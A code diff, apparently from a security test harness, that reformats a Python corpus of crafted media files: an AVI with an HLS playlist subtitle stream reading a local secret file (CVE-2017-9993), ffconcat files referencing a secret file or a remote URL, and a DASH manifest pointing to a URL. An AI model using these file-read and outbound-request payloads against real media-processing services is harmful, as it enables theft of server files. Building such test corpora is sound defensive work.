@@ -112,7 +112,9 @@ def flipped(kind: str, seed: int, *options: str) -> Maker:
 
 def gab2(targets: Targets) -> bytes:
     """Return an AVI with a subtitle stream that is a playlist (CVE-2017-9993)."""
-    playlist = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile://{targets.secret}\n#EXT-X-ENDLIST\n".encode()
+    playlist = (
+        f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile://{targets.secret}\n#EXT-X-ENDLIST\n"
+    ).encode()
     strh = b"txts" + bytes(52)
     strl = b"strh" + struct.pack("<I", len(strh)) + strh + b"strf" + struct.pack("<I", 0)
     data = (
@@ -168,7 +170,8 @@ CORPUS: dict[str, Maker] = {
     "ffconcat of a file": lambda t: f"ffconcat version 1.0\nfile '{t.secret}'\n".encode(),
     "ffconcat of a server": lambda t: f"ffconcat version 1.0\nfile {t.url}/a.mp3\n".encode(),
     "dash manifest": lambda t: (
-        f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet><Representation>'
+        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">'
+        "<Period><AdaptationSet><Representation>"
         f"<BaseURL>{t.url}/</BaseURL></Representation></AdaptationSet></Period></MPD>"
     ).encode(),
     "session description": lambda t: (
